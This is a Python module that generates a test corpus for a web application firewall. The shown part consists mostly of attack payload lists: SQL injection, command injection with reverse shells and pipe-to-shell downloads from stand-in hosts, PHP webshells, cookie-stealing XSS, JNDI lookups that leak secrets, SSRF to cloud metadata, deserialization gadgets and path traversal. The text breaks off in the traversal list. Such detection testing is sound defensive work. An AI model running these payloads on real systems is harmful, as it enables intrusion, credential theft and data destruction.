"""Blind WAF set "fourteenth": every attack family in every part of a request.

Attacks: hand-written payloads of nine families (sqli, rce, php, xss, generic = Node.js / prototype pollution /
SSRF / Ruby / Python, java, lfi, ssti, rfi), each with a sub-family, roughly in proportion to how often each is
attacked. The point of the set is placement: each payload goes into three of twenty request parts built here
(query value, query parameter name, repeated query parameter, path segment, form value and field name, JSON
string value nested in objects and arrays, JSON key, JSON number-looking string, cookie value and cookie name,
User-Agent, Referer, X-Forwarded-For, a custom X- header, multipart field value and filename, XML element text
and attribute, and the body of a GET request), rotating so that every part carries every family. Targets are
our routes (/api/users, /api/users/<id>, /admin/users/search, /oauth/token, /me/location, /auth/slack/login).

Benign: the same twenty parts carrying what real clients send there (names with apostrophes, emails, search
phrases, nested JSON, analytics / consent / CSRF cookies, browser and SDK user agents, referers with long query
strings, forwarded-for chains, ordinary uploads, XML documents), plus developers' code pasted into Slack, each
text once as a Slack message and once as a profile bio (ids `b14-devcode-slack-NNNN` / `b14-devcode-bio-NNNN`,
sub "dev-code"; DEV_CODE_PREFIX).

Authorship and independence: written for this repository from general knowledge of each technique and of real
traffic, without reading the WAF's rules, the project's exclusions, any other generator's payload or text lists,
the shared corpus, any ruleset file or regression test, or any public payload list. The payloads and texts were
fixed before the set was measured once. Every request is well-formed HTTP: URIs are percent-encoded, header values
carry no CR / LF / NUL. Same record schema as family_gen.py; deterministic (no randomness, no clock).
"""

from __future__ import annotations

import json
import urllib.parse
from collections.abc import Callable, Iterator
from typing import Any
from xml.sax.saxutils import escape

from .family_gen import UA, _form, _get, _json, _query
from .family_gen_blind_php import bio_request, slack_message
from .records import slack_escape as _slack_escaped

DEV_CODE_PREFIX = "b14-devcode"

# --------------------------------------------------------------------------------------------------------------
# Attack payloads: (sub-family, payload)

SQLI: list[tuple[str, str]] = [
    ("union", "' UNION SELECT NULL,NULL,NULL--"),
    ("union", "1 UNION ALL SELECT username,password FROM users--"),
    ("union", "-1' union select 1,2,group_concat(table_name) from information_schema.tables "
              "where table_schema=database()-- -"),
    ("union", "0 union select 1,@@version,3#"),
    ("union", "1') UNION SELECT column_name,2 FROM information_schema.columns WHERE table_name='users'--"),
    ("union", "x' UNION SELECT sql,1 FROM sqlite_master--"),
    ("union", "1 union select null,banner from v$version--"),
    ("union", "' union select 1,load_file('/etc/passwd'),3-- -"),
    ("union", "1 UNION SELECT 1,'<?php system($_GET[0]); ?>' INTO OUTFILE '/var/www/html/s.php'--"),
    ("union", "')) union all select current_user,2,3--"),
    ("boolean", "' OR '1'='1"),
    ("boolean", "' or 1=1--"),
    ("boolean", "admin'--"),
    ("boolean", '" or ""="'),
    ("boolean", "1 AND 1=1"),
    ("boolean", "1' AND '1'='2"),
    ("boolean", "') or ('a'='a"),
    ("boolean", "1 or true"),
    ("boolean", "' OR 'x' LIKE 'x"),
    ("boolean", "1' and substring(version(),1,1)='5"),
    ("boolean", "1 AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64"),
    ("boolean", "' or username is not null or '"),
    ("boolean", "1' AND (SELECT COUNT(*) FROM users)>0 AND '1'='1"),
    ("boolean", "x' OR 2>1 -- "),
    ("boolean", "1 RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))"),
    ("time", "1' AND SLEEP(5)-- -"),
    ("time", "1; WAITFOR DELAY '0:0:5'--"),
    ("time", "' OR pg_sleep(5)--"),
    ("time", "1 AND (SELECT 1 FROM (SELECT SLEEP(10))a)"),
    ("time", "1' and benchmark(5000000,md5('a'))#"),
    ("time", "'; select pg_sleep(10);--"),
    ("time", "1 AND 1=DBMS_PIPE.RECEIVE_MESSAGE('a',5)"),
    ("time", "if(now()=sysdate(),sleep(6),0)"),
    ("time", "0'XOR(if(now()=sysdate(),sleep(5),0))XOR'Z"),
    ("time", "1) OR SLEEP(3)#"),
    ("error", "1 AND extractvalue(1,concat(0x7e,(select user()),0x7e))"),
    ("error", "' and updatexml(1,concat(0x7e,version()),1)-- "),
    ("error", "1 AND 1=CONVERT(int,(SELECT @@version))"),
    ("error", "' AND 1=CAST((SELECT table_name FROM information_schema.tables LIMIT 1) AS int)--"),
    ("error", "1 or (select 1 from(select count(*),concat(database(),floor(rand(0)*2))x "
              "from information_schema.tables group by x)a)"),
    ("error", "1' AND exp(~(select * from (select user())x))-- -"),
    ("error", "' || (SELECT CASE WHEN 1=1 THEN TO_CHAR(1/0) ELSE NULL END FROM dual) || '"),
    ("stacked", "1; DROP TABLE users--"),
    ("stacked", "'; INSERT INTO users (name,role) VALUES ('eve','admin');--"),
    ("stacked", "1; UPDATE users SET password='x' WHERE id=1"),
    ("stacked", "'; EXEC xp_cmdshell 'whoami';--"),
    ("stacked", "1; exec master..xp_cmdshell 'ping 10.0.0.1'"),
    ("stacked", "'; COPY (SELECT '') TO PROGRAM 'id';--"),
    ("stacked", "1;SHUTDOWN WITH NOWAIT;--"),
    ("stacked", r"'; DECLARE @q varchar(99); SET @q='\\attacker.example\x'; EXEC master.dbo.xp_dirtree @q;--"),
    ("stacked", "1; CREATE USER eve IDENTIFIED BY 'pw';--"),
    ("stacked", "'; ALTER TABLE users ADD COLUMN pwned int;--"),
    ("evasion", "1'/**/OR/**/1=1#"),
    ("evasion", "1'/*!50000UNION*//*!50000SELECT*/1,2-- -"),
    ("evasion", "%27%20OR%201%3D1--"),
    ("evasion", "1'\nUNION\nSELECT\n1,2--"),
    ("evasion", "uNiOn SeLeCt 1,2,3"),
    ("evasion", "1' UnIoN/**/aLl/**/SeLeCt 1,2,3-- -"),
    ("evasion", "' oR 1=1 lImIt 1 -- "),
    ("evasion", "1'||'1'='1"),
    ("evasion", "1' && '1'='1"),
    ("evasion", "admin' /*"),
    ("evasion", "' OR 0x31=0x31 --"),
    ("evasion", "1 AND 'a'=CHAR(97)"),
    ("evasion", "-1 UNION SELECT CHAR(117,115,101,114),2"),
    ("evasion", "1'%20or%20'1'%3D'1"),
    ("evasion", "'+or+1=1--+"),
    ("evasion", "' AND 1=1 AND 'x'='x"),
    ("evasion", "1 procedure analyse(extractvalue(rand(),concat(0x3a,version())),1)"),
    ("evasion", "\\' OR 1=1 -- "),
    ("evasion", "' \uff2f\uff32 1=1--"),
    ("evasion", "1'%09and%091=1%09--"),
    ("fragment", "' --"),
    ("fragment", "1'"),
    ("fragment", "';"),
    ("fragment", '")'),
    ("fragment", "1 order by 10--"),
    ("fragment", "' group by password having 1=1--"),
    ("fragment", "ORDER BY 3"),
    ("fragment", "1 limit 1,1"),
    ("fragment", "sleep(5)"),
    ("fragment", "@@version"),
    ("fragment", "select * from users"),
    ("fragment", "information_schema.tables"),
    ("fragment", "' AND '1"),
    ("fragment", "1' ORDER BY 1-- -"),
    ("oob", r"1 AND (SELECT LOAD_FILE(CONCAT('\\\\',(SELECT password FROM users LIMIT 1),'.attacker.example\\a')))"),
    ("oob", "'; SELECT UTL_HTTP.REQUEST('http://attacker.example/'||user) FROM dual--"),
    ("oob", "1 union select 1,pg_read_file('/etc/passwd')--"),
    ("oob", "' and 1=(select count(*) from all_users)--"),
    ("oob", "'; select lo_import('/etc/passwd');--"),
    ("nosql", '{"$ne": null}'),
    ("nosql", "' || '1'=='1"),
    ("nosql", '{"$where": "sleep(5000) || true"}'),
    ("nosql", '{"username": {"$regex": "^adm"}, "password": {"$gt": ""}}'),
]

RCE: list[tuple[str, str]] = [
    ("unix", "; id"),
    ("unix", "| cat /etc/passwd"),
    ("unix", "&& whoami"),
    ("unix", "|| uname -a"),
    ("unix", "; ls -la /"),
    ("unix", "127.0.0.1; cat /etc/shadow"),
    ("unix", "x; nc -e /bin/sh 203.0.113.5 4444"),
    ("unix", "a|id"),
    ("unix", "; sleep 10"),
    ("unix", "& ping -c 10 127.0.0.1 &"),
    ("unix", "`id`"),
    ("unix", "$(id)"),
    ("unix", "$(cat /etc/passwd)"),
    ("unix", "; echo $(whoami) > /tmp/o"),
    ("unix", "|/usr/bin/id"),
    ("unix", "; /bin/bash -c 'id'"),
    ("unix", "\nid\n"),
    ("unix", "; kill -9 -1"),
    ("unix", "; rm -rf /tmp/*"),
    ("unix", "; chmod 777 /etc/passwd"),
    ("unix", "; cat /proc/self/environ"),
    ("unix", "1;env"),
    ("unix", "| tee /var/www/html/x.php"),
    ("unix", "; printenv"),
    ("unix", "a; crontab -l"),
    ("unix", "; find / -perm -4000 -type f 2>/dev/null"),
    ("revshell", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"),
    ("revshell", "; rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.9 4444 >/tmp/f"),
    ("revshell", "; python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"203.0.113.9\",4444));"
                 "os.dup2(s.fileno(),0);subprocess.call([\"/bin/sh\",\"-i\"])'"),
    ("revshell", "| perl -e 'use Socket;$i=\"203.0.113.9\";$p=4444;socket(S,PF_INET,SOCK_STREAM,"
                 "getprotobyname(\"tcp\"));connect(S,sockaddr_in($p,inet_aton($i)));exec(\"/bin/sh -i\");'"),
    ("revshell", "; socat tcp-connect:203.0.113.9:4444 exec:/bin/sh"),
    ("revshell", "; php -r '$sock=fsockopen(\"203.0.113.9\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");'"),
    ("revshell", "ncat 203.0.113.9 4444 -e /bin/bash"),
    ("revshell", "; ruby -rsocket -e 'c=TCPSocket.new(\"203.0.113.9\",\"4444\");"
                 "while(cmd=c.gets);IO.popen(cmd,\"r\"){|io|c.print io.read};end'"),
    ("revshell", "0<&196;exec 196<>/dev/tcp/203.0.113.9/4444; sh <&196 >&196 2>&196"),
    ("download", "; curl http://203.0.113.9/x.sh | sh"),
    ("download", "; wget -qO- http://203.0.113.9/m | bash"),
    ("download", "$(curl -s http://attacker.example/p|sh)"),
    ("download", "; wget http://203.0.113.9/bot -O /tmp/bot; chmod +x /tmp/bot; /tmp/bot"),
    ("download", "; curl -d @/etc/passwd http://attacker.example/"),
    ("download", "; tftp -i 203.0.113.9 GET nc.exe"),
    ("download", "| busybox wget http://203.0.113.9/a -O- | sh"),
    ("windows", "& dir C:\\"),
    ("windows", r"| type C:\Windows\win.ini"),
    ("windows", "& net user hacker P@ss123 /add"),
    ("windows", "| powershell -nop -c \"IEX(New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')\""),
    ("windows", "& cmd.exe /c whoami"),
    ("windows", "powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA"),
    ("windows", "& certutil -urlcache -split -f http://203.0.113.9/a.exe a.exe"),
    ("windows", "| systeminfo"),
    ("windows", "& ipconfig /all"),
    ("windows", "%COMSPEC% /c ver"),
    ("windows", r"& reg query HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run"),
    ("evasion", ";c''at /e't'c/pa''sswd"),
    ("evasion", ";cat${IFS}/etc/passwd"),
    ("evasion", ";{cat,/etc/passwd}"),
    ("evasion", r"$(printf '\x69\x64')"),
    ("evasion", ";/???/??t /???/p??s??"),
    ("evasion", r";c\at /et\c/pas\swd"),
    ("evasion", "`echo d2hvYW1p|base64 -d`"),
    ("evasion", ";cat$IFS$9/etc/passwd"),
    ("evasion", r"a;$'\x77\x68\x6f\x61\x6d\x69'"),
    ("evasion", ";w'h'o'am'i"),
    ("evasion", "|${PATH:0:1}bin${PATH:0:1}id"),
    ("evasion", r";X=$'cat\x20/etc/passwd'&&$X"),
    ("evasion", ";/bin/ca? /et?/sh*ow"),
    ("evasion", "$(rev<<<'imaohw')"),
    ("evasion", ";echo${IFS}Y2F0IC9ldGMvcGFzc3dk|base64${IFS}-d|sh"),
    ("fragment", "/bin/sh -c"),
    ("fragment", "cmd.exe /c"),
    ("fragment", "nc -lvp 4444"),
    ("fragment", "whoami"),
    ("fragment", "uname -a"),
    ("fragment", "id;"),
]

PHP: list[tuple[str, str]] = [
    ("exec", "<?php system($_GET['c']); ?>"),
    ("exec", "<?php eval($_POST['x']);"),
    ("exec", "<?=`id`?>"),
    ("exec", "<? passthru('id'); ?>"),
    ("exec", "phpinfo();"),
    ("exec", "system('id');"),
    ("exec", "exec('ls -la');"),
    ("exec", "shell_exec('cat /etc/passwd')"),
    ("exec", "passthru($_REQUEST['cmd'])"),
    ("exec", "eval(base64_decode('c3lzdGVtKCJpZCIpOw=='));"),
    ("exec", "assert('system(\"id\")');"),
    ("exec", "preg_replace('/.*/e','system(\"id\")','x')"),
    ("exec", "create_function('', 'system(\"id\");')"),
    ("exec", "call_user_func('system','id')"),
    ("exec", "call_user_func_array('assert', array('phpinfo()'))"),
    ("exec", "array_map('system', array('id'))"),
    ("exec", "file_put_contents('shell.php','<?php system($_GET[0]);')"),
    ("exec", "fwrite(fopen('x.php','w'),'<?php eval($_POST[1]);?>')"),
    ("exec", "include($_GET['f']);"),
    ("exec", "require_once '/etc/passwd';"),
    ("exec", "proc_open('id',array(),$p);"),
    ("exec", "popen('id','r');"),
    ("exec", "pcntl_exec('/bin/sh');"),
    ("exec", "mail('a@example.org','x','y','','-X/var/www/html/s.php');"),
    ("exec", "ini_set('allow_url_include','1');"),
    ("exec", "highlight_file('/etc/passwd');"),
    ("exec", "show_source('config.php');"),
    ("exec", "get_defined_vars()"),
    ("exec", "var_dump(scandir('/'));"),
    ("exec", "print_r(file('/etc/passwd'));"),
    ("exec", "readfile('../config.php')"),
    ("exec", "file_get_contents('php://input')"),
    ("exec", "move_uploaded_file($_FILES['f']['tmp_name'],'s.php')"),
    ("exec", "<?php @eval($_SERVER['HTTP_X_CMD']); ?>"),
    ("exec", "GIF89a;<?php system($_GET['c']); ?>"),
    ("exec", "<script language=\"php\">system('id');</script>"),
    ("obfuscated", "${@eval($_GET[c])}"),
    ("obfuscated", "{${system('id')}}"),
    ("obfuscated", "${system($_GET[x])}"),
    ("obfuscated", "$_GET['a']($_GET['b'])"),
    ("obfuscated", "$x='sys'.'tem';$x('id');"),
    ("obfuscated", "(\"sy\".\"stem\")(\"id\");"),
    ("obfuscated", "@eval(gzinflate(base64_decode('S0lNzsjXUQ')));"),
    ("obfuscated", "eval(str_rot13('flfgrz(\"vq\");'));"),
    ("obfuscated", "$f=chr(115).chr(121).chr(115).chr(116).chr(101).chr(109);$f('id');"),
    ("obfuscated", "<?=$_GET[0]?>"),
    ("obfuscated", "<?php"),
    ("obfuscated", "eval($_"),
    ("wrapper", "php://filter/convert.base64-encode/resource=index.php"),
    ("wrapper", "php://filter/read=string.rot13/resource=config.php"),
    ("wrapper", "php://input"),
    ("wrapper", "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOz8+"),
    ("wrapper", "expect://id"),
    ("wrapper", "phar://uploads/avatar.jpg/shell.php"),
    ("wrapper", "zip://uploads/a.zip#shell.php"),
    ("wrapper", "php://fd/3"),
    ("wrapper", "compress.zlib://php://input"),
    ("wrapper", "glob:///var/www/*"),
    ("wrapper", "php://filter/convert.iconv.UTF8.CSISO2022KR|convert.base64-decode/resource=php://temp"),
    ("object", 'O:8:"stdClass":1:{s:4:"file";s:11:"/etc/passwd";}'),
    ("object", 'a:2:{i:0;s:4:"test";i:1;O:4:"User":1:{s:5:"admin";b:1;}}'),
    ("object", 'O:+14:"SplFileObject":1:{s:3:"foo";s:3:"bar";}'),
    ("object", 'C:11:"ArrayObject":37:{x:i:0;a:0:{};m:a:0:{}}'),
    ("object", 'O:40:"Illuminate\\Broadcasting\\PendingBroadcast":1:{s:9:"*events";O:15:"Faker\\Generator":0:{}}'),
    ("object", 'O:21:"GuzzleHttp\\Psr7\\FnStream":1:{s:9:"_fn_close";s:7:"phpinfo";}'),
    ("object", 'a:1:{s:4:"role";s:5:"admin";}'),
]

XSS: list[tuple[str, str]] = [
    ("script", "<script>alert(1)</script>"),
    ("script", "<script src=//attacker.example/x.js></script>"),
    ("script", "<ScRiPt>alert(document.cookie)</sCrIpT>"),
    ("script", "\"><script>alert(String.fromCharCode(88,83,83))</script>"),
    ("script", "</script><script>alert(1)</script>"),
    ("script", "<script>fetch('//attacker.example/?c='+document.cookie)</script>"),
    ("script", "<script>new Image().src='http://attacker.example/c?'+document.cookie</script>"),
    ("script", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    ("script", "<script type=\"text/javascript\">javascript:alert(1);</script>"),
    ("event", "<img src=x onerror=alert(1)>"),
    ("event", "<img src=x onerror=\"alert(document.domain)\">"),
    ("event", "<svg onload=alert(1)>"),
    ("event", "<svg/onload=alert`1`>"),
    ("event", "<body onload=alert(1)>"),
    ("event", "\" onmouseover=\"alert(1)"),
    ("event", "' onfocus='alert(1)' autofocus='"),
    ("event", "<input autofocus onfocus=alert(1)>"),
    ("event", "<details open ontoggle=alert(1)>"),
    ("event", "<video><source onerror=\"alert(1)\">"),
    ("event", "<audio src=x onerror=alert(1)>"),
    ("event", "<marquee onstart=alert(1)>"),
    ("event", "<iframe onload=alert(1)>"),
    ("event", "<div onpointerover=\"alert(1)\">hover</div>"),
    ("event", "<select autofocus onfocus=alert(1)>"),
    ("event", "<textarea autofocus onfocus=alert(1)>"),
    ("event", "<keygen autofocus onfocus=alert(1)>"),
    ("event", "<object data=x onerror=alert(1)>"),
    ("event", "<img src=1 oNeRrOr=confirm(1)>"),
    ("event", "<math><mtext><img src=x onerror=alert(1)></mtext></math>"),
    ("uri", "javascript:alert(1)"),
    ("uri", "javascript:alert(document.cookie)//"),
    ("uri", "JaVaScRiPt:alert(1)"),
    ("uri", "java\tscript:alert(1)"),
    ("uri", "<a href=\"javascript:alert(1)\">click</a>"),
    ("uri", "<iframe src=\"javascript:alert(1)\">"),
    ("uri", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="),
    ("uri", "<object data=\"data:text/html,<script>alert(1)</script>\">"),
    ("uri", "<embed src=\"javascript:alert(1)\">"),
    ("uri", "<form action=javascript:alert(1)><input type=submit>"),
    ("uri", "<a href=\"&#106;avascript:alert(1)\">x</a>"),
    ("uri", "vbscript:msgbox(1)"),
    ("uri", "<base href=\"javascript:alert(1)//\">"),
    ("uri", "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">"),
    ("evasion", "%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
    ("evasion", "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>"),
    ("evasion", "<img src=x onerror=\\u0061lert(1)>"),
    ("evasion", "<svg><script>alert&#40;1&#41;</script>"),
    ("evasion", "<img src=x onerror=eval(atob('YWxlcnQoMSk='))>"),
    ("evasion", "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\">"),
    ("evasion", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
    ("evasion", "<img/src=x/onerror=alert(1)>"),
    ("evasion", "<img src=`x` onerror=alert(1)>"),
    ("evasion", r"\x3cscript\x3ealert(1)\x3c/script\x3e"),
    ("evasion", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e"),
    ("evasion", "<IMG SRC=\"jav&#x0A;ascript:alert(1)\">"),
    ("evasion", "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"20\" y=\"20\">X</text></a></svg>"),
    ("evasion", "<style>@import 'http://attacker.example/x.css';</style>"),
    ("evasion", "<div style=\"background:url(javascript:alert(1))\">"),
    ("evasion", "<x onclick=alert(1)>click"),
    ("context", "{{constructor.constructor('alert(1)')()}}"),
    ("context", "<div ng-app ng-csp><div ng-focus=\"$event.view.alert(1)\" tabindex=0>"),
    ("context", "#\"><img src=x onerror=alert(1)>"),
    ("context", "';alert(1);//"),
    ("context", "\";alert(document.cookie);//"),
    ("context", "</title><script>alert(1)</script>"),
    ("context", "</textarea><script>alert(1)</script>"),
    ("context", "-alert(1)-"),
    ("context", "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'>"
                "<image href='1' onerror='alert(1)'/></svg>#x\"/>"),
]

GENERIC: list[tuple[str, str]] = [
    ("nodejs", "require('child_process').exec('id')"),
    ("nodejs", "require(\"child_process\").execSync(\"cat /etc/passwd\").toString()"),
    ("nodejs", "process.mainModule.require('child_process').spawnSync('id')"),
    ("nodejs", "global.process.mainModule.constructor._load('child_process').exec('id')"),
    ("nodejs", "this.constructor.constructor('return process')().mainModule.require('child_process').execSync('id')"),
    ("nodejs", "process.exit()"),
    ("nodejs", "process.env"),
    ("nodejs", "res.end(require('fs').readFileSync('/etc/passwd'))"),
    ("nodejs", "require('fs').writeFileSync('/tmp/x','y')"),
    ("nodejs", "eval(\"require('child_process').exec('id')\")"),
    ("nodejs", "new Function('return process')()"),
    ("nodejs", "setTimeout(\"require('child_process').exec('id')\",1)"),
    ("nodejs", "_$$ND_FUNC$$_function(){require('child_process').exec('id')}()"),
    ("nodejs", "{\"rce\":\"_$$ND_FUNC$$_function (){require('child_process').exec('ls')}()\"}"),
    ("pollution", "__proto__[isAdmin]=true"),
    ("pollution", "__proto__.isAdmin"),
    ("pollution", "constructor[prototype][role]=admin"),
    ("pollution", "constructor.prototype.polluted"),
    ("pollution", "{\"__proto__\":{\"isAdmin\":true}}"),
    ("pollution", "{\"constructor\":{\"prototype\":{\"shell\":\"/proc/self/exe\","
                  "\"NODE_OPTIONS\":\"--require /proc/self/environ\"}}}"),
    ("pollution", "__proto__[outputFunctionName]=x;process.mainModule.require('child_process').execSync('id');s"),
    ("pollution", "__proto__[execArgv][]=--eval=require('child_process').execSync('id')"),
    ("pollution", "__proto__"),
    ("ssrf", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("ssrf", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"),
    ("ssrf", "http://127.0.0.1:6379/"),
    ("ssrf", "http://localhost:8080/admin"),
    ("ssrf", "gopher://127.0.0.1:6379/_SET%20x%20y%0D%0A"),
    ("ssrf", "file:///etc/passwd"),
    ("ssrf", "http://[::1]:22/"),
    ("ssrf", "http://0x7f000001/"),
    ("ssrf", "http://2130706433/"),
    ("ssrf", "http://169.254.169.254.nip.io/"),
    ("ssrf", "dict://127.0.0.1:11211/stats"),
    ("ssrf", "http://100.100.100.200/latest/meta-data/"),
    ("ssrf", "http://[fd00:ec2::254]/latest/meta-data/"),
    ("ssrf", "http://0/"),
    ("ssrf", "http://127.1:2375/containers/json"),
    ("ssrf", "ldap://127.0.0.1:389/"),
    ("ssrf", "http://attacker.example@127.0.0.1/"),
    ("ssrf", "http://169.254.169.254/metadata/instance?api-version=2021-02-01"),
    ("ruby", "Kernel.exec('id')"),
    ("ruby", "IO.popen('id').read"),
    ("ruby", "%x(id)"),
    ("ruby", "eval(\"`id`\")"),
    ("ruby", "Open3.capture2('id')"),
    ("ruby", "open('|id').read"),
    ("ruby", "Marshal.load(Base64.decode64('BAhvOhVHZW06Okluc3RhbGxlcgA='))"),
    ("ruby", "--- !ruby/object:Gem::Installer\n    i: x"),
    ("ruby", "ERB.new('<%= `id` %>').result"),
    ("ruby", "File.read('/etc/passwd')"),
    ("ruby", "send(:system, 'id')"),
    ("ruby", "instance_eval('`id`')"),
    ("ruby", "Object.const_get(:Kernel).system('id')"),
    ("python", "__import__('os').system('id')"),
    ("python", "__import__('subprocess').check_output(['id'])"),
    ("python", "eval(compile('import os;os.system(\"id\")','','exec'))"),
    ("python", "exec(\"import os; os.popen('id').read()\")"),
    ("python", "().__class__.__bases__[0].__subclasses__()"),
    ("python", "cos\nsystem\n(S'id'\ntR."),
    ("python", "!!python/object/apply:os.system ['id']"),
    ("python", "open('/etc/passwd').read()"),
    ("python", "getattr(__import__('os'),'system')('id')"),
    ("python", "lambda: __import__('os').popen('id').read()"),
]

JAVA: list[tuple[str, str]] = [
    ("jndi", "${jndi:ldap://attacker.example:1389/a}"),
    ("jndi", "${jndi:rmi://203.0.113.9:1099/obj}"),
    ("jndi", "${jndi:dns://attacker.example/x}"),
    ("jndi", "${${lower:j}ndi:${lower:l}dap://attacker.example/a}"),
    ("jndi", "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://attacker.example/a}"),
    ("jndi", "${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.attacker.example/a}"),
    ("jndi", "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//attacker.example/a}"),
    ("jndi", "${jndi:ldaps://attacker.example/a}"),
    ("jndi", "${j${k8s:k5:-ND}i:ldap://attacker.example/x}"),
    ("jndi", "${${upper:j}ndi:iiop://attacker.example/a}"),
    ("jndi", "%24%7Bjndi%3Aldap%3A%2F%2Fattacker.example%2Fa%7D"),
    ("jndi", "${jndi:ldap://127.0.0.1#attacker.example:1389/a}"),
    ("jndi", "${sys:java.version}"),
    ("jndi", "${script:javascript:java.lang.Runtime.getRuntime().exec('id')}"),
    ("jndi", "${url:UTF-8:http://attacker.example/}"),
    ("jndi", "${dns:address|attacker.example}"),
    ("ognl", "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)."
             "(#_memberAccess?(#_memberAccess=#dm):((#container=#context['com.opensymphony.xwork2.ActionContext."
             "container']))).(#cmd='id').(#p=new java.lang.ProcessBuilder({'/bin/sh','-c',#cmd})).(#p.start())}"),
    ("ognl", "${(#a=@java.lang.Runtime@getRuntime().exec('id'))}"),
    ("ognl", "%{#context['xwork.MethodAccessor.denyMethodExecution']=false}"),
    ("ognl", "(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))"),
    ("ognl", "redirect:${#req=#context.get('com.opensymphony.xwork2.dispatcher.HttpServletRequest')}"),
    ("ognl", "%{@java.lang.System@getProperty('user.dir')}"),
    ("ognl", "#_memberAccess[\"allowStaticMethodAccess\"]=true"),
    ("el", "${T(java.lang.Runtime).getRuntime().exec('id')}"),
    ("el", "#{T(java.lang.Runtime).getRuntime().exec('calc')}"),
    ("el", "${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}"),
    ("el", "${request.getClass().getClassLoader()}"),
    ("el", "${applicationScope}"),
    ("el", "T(org.springframework.util.StreamUtils).copy(T(java.lang.Runtime).getRuntime().exec('id')"
           ".getInputStream(),T(org.springframework.web.context.request.RequestContextHolder)"
           ".currentRequestAttributes().getResponse().getOutputStream())"),
    ("el", "${pageContext.request.getSession().setAttribute('admin',true)}"),
    ("el", "class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di"),
    ("el", "class.classLoader.URLs[0]=jar:http://attacker.example/x.jar!/"),
    ("el", "T(java.lang.Runtime).getRuntime().exec(\"touch /tmp/pwned\")"),
    ("deser", "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhwP0AAAAAA"
              "AAx3CAAAABAAAAAAeA=="),
    ("deser", "aced0005737200116a6176612e7574696c2e486173684d6170"),
    ("deser", "<java.beans.XMLDecoder><object class=\"java.lang.ProcessBuilder\"><array class=\"java.lang.String\" "
              "length=\"1\"><void index=\"0\"><string>id</string></void></array><void method=\"start\"/></object>"
              "</java.beans.XMLDecoder>"),
    ("deser", "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://attacker.example/a\","
              "\"autoCommit\":true}"),
    ("deser", "[\"ch.qos.logback.core.db.DriverManagerConnectionSource\",{\"url\":\"jdbc:h2:mem:;"
              "INIT=RUNSCRIPT FROM 'http://attacker.example/x.sql'\"}]"),
    ("deser", "<sorted-set><dynamic-proxy><interface>java.lang.Comparable</interface><handler "
              "class=\"java.beans.EventHandler\"><target class=\"java.lang.ProcessBuilder\"><command><string>id"
              "</string></command></target><action>start</action></handler></dynamic-proxy></sorted-set>"),
    ("deser", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL "
              "[\"http://attacker.example/x.jar\"]]]]"),
    ("deser", "{\"@class\":\"org.apache.xbean.propertyeditor.JndiConverter\",\"asText\":\"ldap://attacker.example/a\"}"),
    ("reflection", "java.lang.Runtime.getRuntime().exec(\"id\")"),
    ("reflection", "Class.forName(\"java.lang.Runtime\").getMethod(\"exec\",String.class)"),
    ("reflection", "new java.lang.ProcessBuilder(\"id\").start()"),
    ("reflection", "new java.util.Scanner(Runtime.getRuntime().exec(\"id\").getInputStream()).next()"),
    ("reflection", "new javax.naming.InitialContext().lookup(\"ldap://attacker.example/a\")"),
    ("reflection", "Runtime.getRuntime().exec(new String[]{\"/bin/sh\",\"-c\",\"id\"})"),
    ("reflection", "\"id\".execute().text"),
    ("reflection", "jdbc:h2:mem:test;INIT=CREATE ALIAS EXEC AS 'String e(String c) throws Exception"
                   "{Runtime.getRuntime().exec(c);return c;}'\\;CALL EXEC('id')"),
]

LFI: list[tuple[str, str]] = [
    ("traversal", "../../../../etc/passwd"),
    ("traversal", r"..\..\..\windows\win.ini"),
    ("traversal", "....//....//....//etc/passwd"),
    ("traversal", "../../../../var/log/nginx/access.log"),
    ("traversal", "/var/www/html/../../../etc/passwd"),
    ("traversal", r"....\\....\\windows\\win.ini"),
    ("traversal", "..;/..;/WEB-INF/web.xml"),
    ("traversal", "../WEB-INF/web.xml"),
    ("traversal", "../../../../home/ubuntu/.aws/credentials"),
    ("traversal", "../.git/config"),
    ("traversal", "..././..././etc/hosts"),
    ("traversal", "../../.env"),
    ("encoded", "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
    ("encoded", "..%252f..%252f..%252fetc%252fpasswd"),
    ("encoded", "..%c0%af..%c0%af..%c0%afetc/passwd"),
    ("encoded", "../../../etc/passwd%00.jpg"),
    ("encoded", "..%5c..%5c..%5cwindows%5csystem.ini"),
